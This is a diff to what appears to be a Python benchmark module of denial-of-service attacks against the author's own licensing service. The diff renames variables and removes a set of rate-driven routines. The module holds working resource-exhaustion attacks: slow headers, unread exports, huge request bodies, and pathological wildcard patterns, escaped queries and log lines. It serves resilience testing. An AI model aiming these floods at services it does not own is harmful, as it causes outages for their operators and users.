@@ -1,4 +1,4 @@
-"""The attacks of benchmarks.attacks, each in its own process. Use them only against your own service."""
+"""The attacks of benchmarks.attacks over many connections at once. Use them only against your own service."""
 
 import gzip
 import json
@@ -6,19 +6,16 @@ import re
 import secrets
 import socket
 import time
-from collections.abc import Callable, Iterator
-from concurrent.futures import ThreadPoolExecutor
-from contextlib import closing, contextmanager, suppress
+from collections.abc import Callable
+from contextlib import closing, suppress
 from dataclasses import dataclass
-from threading import Event, Thread
+from threading import Thread
 from typing import Any
 from urllib.parse import urlsplit
 
 import httpx
 
 from accounts.keys import keytext
-from benchmarks.harness import due_moments
-from licensing.sites.patterns import MAX_CHARACTERS, MAX_WILDCARDS
 
 RULES = BATCH = 100
 PATIENCE = 3  # seconds after which a client gives up
@@ -73,12 +70,6 @@ def named(name: str) -> Callable[[Attack], Attack]:
     return register
 
 
-def attack(name: str, target: Target, seconds: float, begun: Any) -> None:
-    """Run an attack with a time limit in its own process. Sets the event `begun`."""
-    begun.set()
-    ATTACKS[name](target, time.monotonic() + seconds)
-
-
 def by_many(count: int, work: Callable[[], None]) -> None:
     """Run the work in `count` daemon threads."""
     threads = [Thread(target=work, daemon=True) for _ in range(count)]
@@ -128,14 +119,14 @@ def simulations(target: Target, until: float) -> None:
 @named("unread-exports")
 def unread_exports(target: Target, until: float) -> None:
     """Request exports without reading them, or read one byte per second."""
-    asked = target.head("GET /v1/access/decisions?format=jsonl")
+    request_head = target.head("GET /v1/access/decisions?format=jsonl")
     opened = [target.connect(receive_bytes=4096) for _ in range(16)]
-    for one in opened:
-        one.sendall(asked)
+    for connection in opened:
+        connection.sendall(request_head)
     while time.monotonic() < until:
-        for one in opened[:8]:
+        for connection in opened[:8]:
             with suppress(OSError):
-                one.recv(1)
+                connection.recv(1)
         time.sleep(1)
 
 
@@ -144,10 +135,10 @@ def large_bodies(target: Target, until: float) -> None:
     """Send endless bodies of 20 MiB each to an unknown path, without a key."""
     size = 20 * 1024 * 1024
     head = f"POST /nowhere HTTP/1.1\r\nHost: localhost\r\nContent-Length: {size}\r\n\r\n".encode()
-    kept = []
+    connections = []
     for _ in range(16):
         opened = target.connect()
-        kept.append(opened)
+        connections.append(opened)
         with suppress(OSError):
             opened.sendall(head + bytes(size - 1))
     time.sleep(max(0, until - time.monotonic()))
@@ -164,9 +155,9 @@ def slow_heads(target: Target, until: float) -> None:
     for byte in head:
         if time.monotonic() > until:
             break
-        for one in opened[::2]:
+        for connection in opened[::2]:
             with suppress(OSError):
-                one.sendall(bytes([byte]))
+                connection.sendall(bytes([byte]))
         time.sleep(0.1)
     time.sleep(max(0, until - time.monotonic()))
 
@@ -213,13 +204,13 @@ TOKEN = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')
 def signed_in(target: Target) -> httpx.Client:
     client = httpx.Client(base_url=target.url, timeout=30, follow_redirects=True)
     form = {"username": target.username, "password": target.password, "next": "/admin/"}
-    client.post("/admin/login/", data={**form, "csrfmiddlewaretoken": token_of(client, "/admin/login/")})
+    client.post("/admin/login/", data={**form, "csrfmiddlewaretoken": csrf_token(client, "/admin/login/")})
     return client
 
 
-def token_of(client: httpx.Client, path: str) -> str:
-    found = TOKEN.search(client.get(path).text)
-    return found[1] if found else ""
+def csrf_token(client: httpx.Client, path: str) -> str:
+    match = TOKEN.search(client.get(path).text)
+    return match[1] if match else ""
 
 
 @named("blank-imports")
@@ -232,7 +223,7 @@ def blank_imports(target: Target, until: float) -> None:
         with closing(signed_in(target)) as client:
             while time.monotonic() < until:
                 with suppress(httpx.TransportError):
-                    form = {"csrfmiddlewaretoken": token_of(client, path), "account": target.account}
+                    form = {"csrfmiddlewaretoken": csrf_token(client, path), "account": target.account}
                     client.post(path, data=form, files={"file": ("rows.jsonl.gz", file)})
 
     by_many(4, bring)
@@ -258,137 +249,3 @@ def audit_comparisons(target: Target, until: float) -> None:
                     client.get(f"/admin/accounts/auditentry/{entry}/change/")
 
     by_many(4, look)
-
-
-# --- Requests that are cheap to send and make the service compute, 20 a second --------------------------------------
-
-RATE = 20  # requests a second
-CLIENTS = 40  # that wait for replies at a time
-HOST = "attacker.example"
-MAX_RULES = 200  # of a site, as licensing.sites.serializers says; that module needs Django's settings
-PATTERN = MAX_CHARACTERS // MAX_RULES - 6  # characters
-DAYS = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"]
-
-
-def at_a_rate(until: float, send: Callable[[int], httpx.Response]) -> None:
-    """Print the reply to a first request, and then send at RATE, whether or not earlier requests are answered."""
-    reply = send(0)
-    print(f"  first reply: {reply.status_code} {reply.text[:80]!r}", flush=True)
-    with ThreadPoolExecutor(CLIENTS) as executor:
-        for number, _ in enumerate(due_moments(RATE, Event()), 1):
-            if time.monotonic() >= until:
-                return
-            executor.submit(quietly, send, number)
-
-
-def quietly(send: Callable[[int], httpx.Response], number: int) -> None:
-    with suppress(httpx.TransportError):
-        send(number)
-
-
-@contextmanager
-def own_client(target: Target) -> Iterator[httpx.Client]:
-    limits = httpx.Limits(max_connections=CLIENTS)
-    with httpx.Client(base_url=target.url, headers=target.headers, timeout=30, limits=limits) as client:
-        yield client
-
-
-def create_hostile_site(client: httpx.Client, policy: str) -> str:
-    """Create a site with the most overlapping patterns of the most wildcards. Return its id."""
-    wildcards = "/" + "*a" * (MAX_WILDCARDS - 1) + "*"
-    patterns = [f"{wildcards}{number:03}".ljust(PATTERN, "a") for number in range(MAX_RULES)]
-    rules = [{"pattern": pattern, "policyId": policy} for pattern in patterns]
-    reply = client.post("/v1/sites", json={"host": HOST, "mode": "enforce", "rules": rules})
-    if reply.status_code == httpx.codes.CONFLICT:
-        [site] = client.get("/v1/sites").json()["data"]
-        return site["id"]
-    return reply.raise_for_status().json()["id"]
-
-
-def visit(client: httpx.Client, target: Target, path: str) -> httpx.Response:
-    headers = {"X-Licensing-Key": target.key, "X-Licensing-Method": "GET", "X-Licensing-Url": f"https://{HOST}{path}"}
-    return client.get("/v1/access/middleware", headers=headers)
-
-
-@named("terms-documents")
-def terms_documents(target: Target, until: float) -> None:
-    """Request the documents of a site with 200 overlapping patterns, which changes once a second."""
-    with own_client(target) as client:
-        site = create_hostile_site(client, target.policy)
-        paths = ("/license.xml", "/robots.txt", "/.well-known/tdmrep.json")
-
-        def send(number: int) -> httpx.Response:
-            if number % RATE == 0:
-                client.patch(f"/v1/sites/{site}", json={"name": f"Site {number}"})
-            return client.get(paths[number % len(paths)], headers={"Host": HOST})
-
-        at_a_rate(until, send)
-
-
-@named("wildcards")
-def wildcards(target: Target, until: float) -> None:
-    """Visit pages of such a site by URLs with many readings."""
-    with own_client(target) as client:
-        create_hostile_site(client, target.policy)
-        long = "a" * 1_500
-        at_a_rate(until, lambda n: visit(client, target, f"/{long}{n};x/..;/b/%252e%252e/%2561;y"))
-
-
-@named("escaped-queries")
-def escaped_queries(target: Target, until: float) -> None:
-    """Visit pages whose query is 2,600 escaped brackets."""
-    with own_client(target) as client:
-        create_hostile_site(client, target.policy)
-        brackets = "%5B" * 2_600
-        at_a_rate(until, lambda n: visit(client, target, f"/premium/p{n}?utm=a%20b{brackets}"))
-
-
-@named("schedules")
-def schedules(target: Target, until: float) -> None:
-    """Send batches under a policy of 100 schedules."""
-    rules = [
-        {"action": "deny", "priority": number + 1, "conditions": {"schedule": schedule(number)}}
-        for number in range(RULES - 1)
-    ]
-    rules.append({"action": "allow", "priority": 1000, "conditions": {"default": True}})
-    with own_client(target) as client:
-        policy = client.post("/v1/policies", json={"name": "Hours", "rules": rules}).raise_for_status().json()["id"]
-        item = client.post("/v1/content", json={"title": "Hours", "policyId": policy}).json()["id"]
-        body = {"contentId": item, "requester": "org", "checks": [{}] * BATCH}
-        at_a_rate(until, lambda n: client.post("/v1/access/check/batch", json=body))
-
-
-def schedule(number: int) -> dict[str, Any]:
-    hour, minute = number % 24, number % 50
-    return {"days": DAYS, "from": f"{hour:02}:{minute:02}", "to": f"{hour:02}:59", "timeZone": "America/St_Johns"}
-
-
-@named("lint")
-def lint(target: Target, until: float) -> None:
-    """Lint 100 rules of 500 values."""
-    body = {"rules": target.rules()}
-    with own_client(target) as client:
-        at_a_rate(until, lambda n: client.post("/v1/policies/lint", json=body))
-
-
-@named("pasted-attributes")
-def pasted_attributes(target: Target, until: float) -> None:
-    """Paste 50,000 spaces into *Check access* as an operator."""
-    path = "/admin/check-access/"
-    with closing(signed_in(target)) as client:
-        token = token_of(client, path)
-        form = {"csrfmiddlewaretoken": token, "item": target.item, "requester": "org", "attributes": " " * 50_000}
-        at_a_rate(until, lambda n: client.post(path, data=form))
-
-
-@named("log-lines")
-def log_lines(target: Target, until: float) -> None:
-    """Upload logs with lines of 45 KB of brackets and quotes."""
-    line = b"203.0.113.9 - x " + b"[" * 22_000 + b'"' * 22_000 + b"\n"
-    with own_client(target) as client:
-        site = create_hostile_site(client, target.policy)
-    path = f"/admin/licensing/site/{site}/import-log/"
-    with closing(signed_in(target)) as client:
-        token = token_of(client, path)
-        form = {"csrfmiddlewaretoken": token, "account": target.account}
-        at_a_rate(until, lambda n: client.post(path, data=form, files={"file": ("access.log", line * 100)}))
